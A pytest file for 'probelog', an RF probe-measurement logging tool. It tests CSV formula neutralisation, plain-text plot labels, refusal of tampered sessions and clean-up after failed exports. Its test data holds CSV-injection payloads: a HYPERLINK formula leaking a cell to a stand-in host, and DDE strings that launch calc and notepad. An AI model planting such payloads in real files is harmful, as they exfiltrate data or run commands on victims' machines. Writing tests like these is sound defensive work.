"""A bundle that cannot mislead: formula cells neutralised in the manifest,
labels drawn as plain text, a damaged session refused unless asked for, and
no half bundle left behind by a failed export (issue 13, items 3 and 4).

Sessions are written by tests/test_export.py's SessionWriter, which follows
docs/journal-events.md to the letter; sweeps are scikit-rf DefinedGammaZ0 lines.
"""

from __future__ import annotations

import csv
import hashlib
import shutil
from pathlib import Path

import numpy as np
import pytest
import skrf
from matplotlib.backends.backend_agg import FigureCanvasAgg
from matplotlib.figure import Figure

import probelog
from probelog.export import DamagedSessionError, export_bundle
from probelog.manifest import csv_cell
from test_export import FAMILIES, LENGTH_M, SessionWriter, check, media_of, write_session
from probelog.tui.cli import main as cli_main

# OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection, from
# memory): cells beginning with =, +, -, @, tab (0x09) or carriage return (0x0D)
# are run as formulas by spreadsheet tools; prefix them with a single quote.
HOSTILE_NOTES = {
    "ln-a": '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "ln-b": "@SUM(1+1)*cmd|' /C calc'!A0",
    "ln-c": "-2+3+cmd|' /C notepad'!A0",
    "ln-d": "\t=1+1",
}
PLAN = """
[plan]
name = "hostile"
[wafer]
id = '@WAFER@'

lot = "QF2611"
""" + "".join(f"""
[[site]]
name = "{s}"
kind = "line"
length_um = 500.0
line_type = '@LINE@'
metal = "+cmd|' /C calc'!A0"
width_um = 6.0
gap_um = 12.0
""" for s in HOSTILE_NOTES)  # TOML literal strings: backslashes stay


def hostile_session(folder: Path, wafer: str = "QF2611-W07", line_type: str = "cpw") -> Path:
    """Four line sites on one die, each kept, each with a hostile note; the plan's
    metal field is a formula and z0_im is negative (a number that starts with '-')."""
    w = SessionWriter(folder)
    plan = PLAN.replace("@WAFER@", wafer).replace("@LINE@", line_type)
    w.event("session-opened", {
        "session_id": folder.name, "probelog_version": "0.1.0", "plan_name": "hostile", "plan_text": plan,
        "plan_sha256": hashlib.sha256(plan.encode()).hexdigest(), "operator": "test", "wafer": wafer,
        "lot": "QF2611", "chip": "PLX-7", "probes": ["A", "B"], "bench": {"kind": "simulated"},
        "settings": {"start_hz": 1e9, "stop_hz": 67e9, "points": 67, "ifbw_hz": 1e3, "power_dbm": -10.0}})
    line = media_of(FAMILIES["ln-cpw-m9-r1-l500"]).line(LENGTH_M, "m")
    for site, note in HOSTILE_NOTES.items():
        base = f"data/d0_0/{site}/L1"
        w.event("landing", {"die": [0, 0], "site": site, "kind": "line", "landing": 1, "cal_id": "C1",
                            "raw": w.file(f"{base}-raw.s2p", line), "corrected": w.file(f"{base}-cor.s2p", line),
                            "checks": [check("passivity", "pass", 0.99, 1.001, "")], "verdict": "pass",
                            "metrics": {"f_hz": [4e10], "z0_re": [62.0], "z0_im": [-0.4]}})
        w.event("note", {"text": note, "die": [0, 0], "site": site})
        w.event("decision", {"die": [0, 0], "site": site, "landing": 1, "action": "accept", "reason": ""})
    w.event("session-closed", {"completed": True, "summary": {}})
    w.close()
    return folder


def rows_of(bundle: Path) -> list[dict]:
    with open(bundle / "manifest.csv", newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


# ---------------------------------------------------------------- item 3: formula cells


def test_formula_cells_start_with_a_quote_and_numbers_stay(tmp_path):
    out = export_bundle(hostile_session(tmp_path / "s"), tmp_path / "b", progress=False)
    rows = {r["site"]: r for r in rows_of(out)}
    for site, note in HOSTILE_NOTES.items():
        assert rows[site]["notes"] == "'" + note
        assert rows[site]["metal"] == "'+cmd|' /C calc'!A0"
        assert rows[site]["z0_im@40GHz"] == "-0.4"  # a negative number is data, not a formula
        assert rows[site]["line_type"] == "cpw" and rows[site]["site"] == site
    assert "start with an added `'`" in (out / "README.md").read_text()
    # probelog's own reader gives the text back as journaled
    back = {r["site"]: r for r in probelog.open_session(out).manifest}
    assert {s: back[s]["notes"] for s in HOSTILE_NOTES} == HOSTILE_NOTES
    assert back["ln-a"]["z0_im@40GHz"] == pytest.approx(-0.4)


def test_csv_cell_leaves_plain_text_and_numbers_alone():
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("\r=1") == "'\r=1" and csv_cell("+1-") == "'+1-"
    assert csv_cell("-3.5") == "-3.5" and csv_cell("+7") == "+7"  # plain numbers written as text
    assert csv_cell(-3.5) == -3.5 and csv_cell(0) == 0 and csv_cell(None) == ""
    assert csv_cell("cpw") == "cpw" and csv_cell("a=b") == "a=b" and csv_cell("") == ""


# ---------------------------------------------------------------- item 4: labels, damage, temp folder

# A mathtext expression matplotlib cannot parse (an unknown command): drawn as a
# label with math parsing on, rendering raises ValueError.
DOLLAR = r"QF$\nosuchcommand{W07}$"


def test_dollar_text_really_breaks_mathtext():
    fig = Figure()
    fig.add_subplot().set_title(DOLLAR)
    FigureCanvasAgg(fig)
    with pytest.raises(ValueError):
        fig.savefig(__import__("io").BytesIO(), format="png")


def test_dollar_in_wafer_id_and_line_type_is_drawn_as_text(tmp_path):
    session = hostile_session(tmp_path / "s", wafer=DOLLAR, line_type=r"c$\frac{p}{w$")
    out = export_bundle(session, tmp_path / "b", progress=False)
    page = (out / "report.html").read_text()
    assert page.count("data:image/png;base64,") >= 2  # wafer map and line trends drawn


def test_failed_export_leaves_nothing_and_a_rerun_works(tmp_path, monkeypatch):
    import probelog.report

    session = write_session(tmp_path / "s")

    def boom(_inputs):
        raise RuntimeError("plotting died half way")

    monkeypatch.setattr(probelog.report, "build_report", boom)
    with pytest.raises(RuntimeError, match="half way"):
        export_bundle(session, tmp_path / "b", progress=False)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["s"]  # no bundle, no partial folder
    monkeypatch.undo()
    assert (export_bundle(session, tmp_path / "b", progress=False) / "report.html").is_file()


def tampered(session: Path, folder: Path) -> Path:
    shutil.copytree(session, folder)
    f = folder / "data/d5_4/ln-cpw-m9-r1-l500/L1-raw.s2p"
    f.write_bytes(f.read_bytes().replace(b"1.0 ", b"1.5 ", 1))
    return folder


def test_damaged_session_is_refused_unless_allowed(tmp_path, capsys):
    good = write_session(tmp_path / "s")
    bad = tampered(good, tmp_path / "bad")
    with pytest.raises(DamagedSessionError) as info:
        export_bundle(bad, tmp_path / "x", progress=False)
    assert "L1-raw.s2p" in info.value.problems[0]
    assert not (tmp_path / "x").exists()

    capsys.readouterr()
    assert cli_main(["export", str(bad), "--out", str(tmp_path / "b1"), "--quiet"]) == 1
    cap = capsys.readouterr()
    assert not (tmp_path / "b1").exists() and cap.out == ""
    assert len(cap.err.strip().splitlines()) == 1 and "--allow-damaged" in cap.err and "damaged" in cap.err

    assert cli_main(["export", str(bad), "--out", str(tmp_path / "b2"), "--quiet", "--allow-damaged"]) == 1
    cap = capsys.readouterr()
    assert len(cap.err.strip().splitlines()) == 1 and "DAMAGED" in cap.err and "L1-raw.s2p" in cap.err
    assert "BROKEN" in (tmp_path / "b2/report.html").read_text() or "L1-raw.s2p: SHA-256" in \
        (tmp_path / "b2/report.html").read_text()

    # the intact session: exit 0, nothing on stderr but the (quiet) run
    assert cli_main(["export", str(good), "--out", str(tmp_path / "b3"), "--quiet"]) == 0
    cap = capsys.readouterr()
    assert "bundle written" in cap.out and cap.err == ""


def test_broken_chain_is_damage_too(tmp_path):
    bad = tmp_path / "bad"
    shutil.copytree(write_session(tmp_path / "s"), bad)
    lines = (bad / "journal.jsonl").read_bytes().split(b"\n")
    lines[1] = lines[1].replace(b"wrist strap", b"wrist-strap")
    (bad / "journal.jsonl").write_bytes(b"\n".join(lines))
    with pytest.raises(DamagedSessionError, match="journal chain"):
        export_bundle(bad, tmp_path / "x", progress=False)
    kept: list[str] = []
    export_bundle(bad, tmp_path / "y", progress=False, allow_damaged=True, damage=kept)
    assert kept and kept[0].startswith("journal chain")
    assert np.isfinite(skrf.Network(str(tmp_path / "y/data/d3_4/ln-cpw-m9-r1-l500/L1-cor.s2p")).s).all()


def test_smith_chart_labels_are_plain_text_too():
    """scikit-rf labels the chart's right edge '$\\infty$' (mathtext); drawn as plain
    text that would read as dollars and a backslash, so it becomes the infinity sign."""
    from matplotlib.figure import Figure

    from probelog.report import smith_background

    ax = Figure().add_subplot()
    smith_background(ax)
    labels = [t.get_text() for t in ax.texts]
    assert "\u221e" in labels and not any("$" in t for t in labels)
